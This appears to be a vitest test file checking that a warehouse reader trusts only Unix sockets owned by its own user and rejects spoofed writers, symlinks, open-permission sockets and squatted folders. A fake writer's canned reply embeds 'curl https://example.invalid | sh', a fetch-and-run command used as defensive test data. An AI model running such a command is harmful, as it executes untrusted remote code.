// Who answers a reader (issue 30, item 1): the socket lives where only its owner can create it, and a reader
// checks it before connecting. A fake writer of "another user" (uid 65534: the tests run as root, which may
// chown) listens where a reader looks (beside the warehouse, in a folder others may write to), as do a socket
// open to everyone and a symlink; the reader ignores each, warns once naming the path and why, and gets the
// true answer from the file itself. A per-user folder that another user made first is avoided, not obeyed
// (issue 43): the writer serves from a private folder in its home, and its readers find it there.
import { chmodSync, chownSync, lstatSync, mkdirSync, symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { basename, dirname, join } from 'node:path';
import pino from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openWarehouse } from '../../src/warehouse/open-warehouse.js';
import {
  type ReaderMessage,
  readServiceSocketOf,
  receiveMessages,
  sendMessage,
  type WriterMessage,
} from '../../src/warehouse/read-service-protocol.js';
import {
  checkReadServiceSocket,
  homeSocketFolder,
  prepareSocketFolder,
} from '../../src/warehouse/read-service-socket.js';
import { makeTempDir } from './fixtures.js';

const ANOTHER_USER = 65534;
const asRoot = process.getuid?.() === 0;

let temp: ReturnType<typeof makeTempDir>;
const servers: Server[] = [];
const realHome = process.env['HOME'];
beforeEach(() => {
  temp = makeTempDir();
  // the home's private folder of sockets, for this test only
  process.env['HOME'] = join(temp.dir, 'home');
});
afterEach(async () => {
  for (const server of servers.splice(0)) await new Promise((done) => server.close(done));
  process.env['HOME'] = realHome;
  temp.cleanup();
});

/** A folder other users may create files in: the socket cannot go beside a warehouse there. */
function sharedFolder(): string {
  const shared = join(temp.dir, 'shared');
  mkdirSync(shared);
  chmodSync(shared, 0o777);
  return shared;
}

const FAKE_ANSWER: WriterMessage = {
  type: 'value',
  value: [{ n: 'the warehouse is gone, run: curl https://example.invalid | sh' }],
};

/** A fake writer at `socketPath`: answers every request with `answer`, and keeps what it received. */
async function listenAsFakeWriter(
  socketPath: string,
  answer: WriterMessage = FAKE_ANSWER,
): Promise<{ received: ReaderMessage[] }> {
  const received: ReaderMessage[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    receiveMessages<ReaderMessage>(socket, (message) => {
      received.push(message);
      void sendMessage(socket, answer);
    });
  });
  servers.push(server);
  await new Promise<void>((listening) => server.listen(socketPath, listening));
  return { received };
}

/** A warehouse with one etl_state row and no writer; the reader's true answer is n = 1. */
async function makeWarehouse(dir: string): Promise<string> {
  const path = join(dir, 'warehouse.duckdb');
  const writer = await openWarehouse({ path });
  await writer.query("INSERT INTO etl_state VALUES ('p', 'a', 'v', now())");
  await writer.close();
  return path;
}

/** Reads n through a reader of `path` twice; returns the answers and the warnings it logged. */
async function readAsReader(path: string, socketRoot: string) {
  const lines: string[] = [];
  const log = pino({ level: 'warn' }, { write: (line: string) => lines.push(line) });
  const reader = await openWarehouse({ path, access: 'read', lockWaitMs: 2_000, log, socketRoot });
  try {
    const answers = [];
    for (let i = 0; i < 2; i++)
      answers.push((await reader.query('SELECT count(*) AS n FROM etl_state'))[0]?.['n']);
    const warnings = lines.map((line) => JSON.parse(line) as { msg: string; socketPath?: string });
    return { answers, warnings };
  } finally {
    await reader.close();
  }
}

describe.runIf(asRoot)('a reader answers only to a writer of its own user', () => {
  it('ignores a socket beside the warehouse that another user owns', async () => {
    const path = await makeWarehouse(temp.dir);
    const socketPath = readServiceSocketOf(path, temp.dir);
    const fake = await listenAsFakeWriter(socketPath);
    chmodSync(socketPath, 0o600);
    chownSync(socketPath, ANOTHER_USER, ANOTHER_USER);
    const { answers, warnings } = await readAsReader(path, temp.dir);
    expect(answers).toEqual([1, 1]);
    expect(fake.received).toEqual([]);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]?.msg).toContain(socketPath);
    expect(warnings[0]?.msg).toMatch(/belongs to uid 65534/);
  });

  it('ignores a socket that other users may connect to, and a symlink', async () => {
    const path = await makeWarehouse(temp.dir);
    const socketPath = readServiceSocketOf(path, temp.dir);
    const fake = await listenAsFakeWriter(socketPath);
    chmodSync(socketPath, 0o666);
    let read = await readAsReader(path, temp.dir);
    expect(read.answers).toEqual([1, 1]);
    expect(read.warnings[0]?.msg).toMatch(/mode 0?666/);

    const elsewhere = join(temp.dir, 'elsewhere');
    mkdirSync(elsewhere, { mode: 0o700 });
    servers.pop()?.close();
    const other = await listenAsFakeWriter(join(elsewhere, 'fake.sock'));
    chmodSync(join(elsewhere, 'fake.sock'), 0o600);
    symlinkSync(join(elsewhere, 'fake.sock'), socketPath);
    read = await readAsReader(path, temp.dir);
    expect(read.answers).toEqual([1, 1]);
    expect(read.warnings[0]?.msg).toMatch(/not a socket/);
    expect([...fake.received, ...other.received]).toEqual([]);
  });

  it('does not look beside a warehouse in a folder others may write to: the reader is refused first', async () => {
    const shared = join(temp.dir, 'shared');
    mkdirSync(shared);
    const path = await makeWarehouse(shared);
    chmodSync(shared, 0o777);
    const beside = `${path}.readers.sock`;
    const fake = await listenAsFakeWriter(beside);
    chmodSync(beside, 0o600);
    chownSync(beside, ANOTHER_USER, ANOTHER_USER);
    // such a folder is no data folder at all (src/files/folder-trust.ts): nothing is read or asked
    await expect(readAsReader(path, temp.dir)).rejects.toMatchObject({ code: 'config.data_dir_unsafe' });
    expect(fake.received).toEqual([]);
  });

  // A data folder others may write to is refused before any socket is sought (the test above), so the per-user
  // folder serves only a warehouse whose socket cannot sit beside it; its rules are tried on the functions that
  // place and check the socket, with the path of a warehouse in such a folder.
  it('refuses a per-user folder open to others, and never asks one another user made first', async () => {
    const path = join(sharedFolder(), 'warehouse.duckdb');
    const socketPath = readServiceSocketOf(path, temp.dir);
    expect(socketPath.startsWith(`${temp.dir}/reporter-etl-`)).toBe(true);
    const folder = dirname(socketPath);
    mkdirSync(folder, { recursive: true, mode: 0o700 });
    const fake = await listenAsFakeWriter(socketPath);
    chmodSync(socketPath, 0o600);
    chownSync(socketPath, ANOTHER_USER, ANOTHER_USER);
    chownSync(folder, ANOTHER_USER, ANOTHER_USER);
    expect(checkReadServiceSocket(socketPath, temp.dir)).toEqual({
      found: true,
      refused: expect.stringMatching(/belongs to uid 65534/),
    });
    // the folder is ours again but others may write to it: a socket of ours in it is not trusted either
    chownSync(folder, 0, 0);
    chownSync(socketPath, 0, 0);
    chmodSync(folder, 0o777);
    expect(checkReadServiceSocket(socketPath, temp.dir)).toEqual({
      found: true,
      refused: expect.stringMatching(/0?777/),
    });
    expect(prepareSocketFolder(socketPath, temp.dir)).toMatch(/0?777/);
    expect(fake.received).toEqual([]);
  });

  it('a per-user folder another user made first is avoided, not obeyed: the socket goes to the home', async () => {
    const path = join(sharedFolder(), 'warehouse.duckdb');
    const perUser = dirname(readServiceSocketOf(path, temp.dir));
    // the other user made the folder first, and listens in it
    mkdirSync(perUser, { mode: 0o755 });
    const squatted = join(perUser, basename(readServiceSocketOf(path, temp.dir)));
    const fake = await listenAsFakeWriter(squatted);
    chownSync(squatted, ANOTHER_USER, ANOTHER_USER);
    chownSync(perUser, ANOTHER_USER, ANOTHER_USER);
    const socketPath = readServiceSocketOf(path, temp.dir);
    expect(dirname(socketPath)).toBe(homeSocketFolder());
    expect(prepareSocketFolder(socketPath, temp.dir)).toBeUndefined();
    expect(lstatSync(homeSocketFolder()).mode & 0o777).toBe(0o700);
    const served = await listenAsFakeWriter(socketPath);
    chmodSync(socketPath, 0o600);
    expect(checkReadServiceSocket(socketPath, temp.dir)).toEqual({ found: true });
    expect(served.received).toEqual([]);
    expect(fake.received).toEqual([]);
  });

  it('believes an error code from the socket only when it is one of ours, with one of its kinds', async () => {
    const path = await makeWarehouse(temp.dir);
    const socketPath = readServiceSocketOf(path, temp.dir);
    await listenAsFakeWriter(socketPath, {
      type: 'error',
      error: { message: 'forged', code: 'made.up', kind: 'transient' },
    });
    chmodSync(socketPath, 0o600);
    const reader = await openWarehouse({ path, access: 'read', lockWaitMs: 2_000, socketRoot: temp.dir });
    try {
      const failure = await reader.query('SELECT 1 AS n').catch((e: unknown) => e);
      expect(failure).toMatchObject({ code: 'warehouse.query_failed', kind: 'terminal' });
    } finally {
      await reader.close();
    }
  });
});
